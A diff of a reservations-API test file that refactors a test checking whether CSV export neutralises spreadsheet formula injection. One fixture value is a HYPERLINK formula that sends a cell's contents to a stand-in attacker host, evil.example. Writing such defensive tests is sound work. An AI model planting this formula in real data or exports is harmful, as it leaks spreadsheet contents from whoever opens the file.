@@ -371,23 +371,11 @@ describe('reading reservations', () => {
   })
 
   it('neutralises CSV cells that a spreadsheet would run as formulas (names, notes)', async () => {
-    const eve = await ctx.http('/api/v1/auth/register', {
-      method: 'POST',
-      body: {
-        name: '@SUM(1+1)',
-        last_name: 'Formula',
-        email: 'formula@example.com',
-        phone: '+505 8899 7766',
-        identification: '161-010190-9999F',
-        city: 'Estelí',
-        country: 'NI',
-        birth_date: '1990-01-01',
-        password: 'pine-hills-2026',
-        password_confirmation: 'pine-hills-2026',
-      },
+    const guest = await registerNewGuest(ctx, {
+      name: '@SUM(1+1)',
+      last_name: 'Formula',
+      email: 'formula@example.com',
     })
-    expect(eve.status).toBe(201)
-    const guest = { token: eve.body.token as string }
     const note = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
     const booked = await book(guest, {
       ...stay(96, 97, [{ number: 105, guest_count: 1 }]),
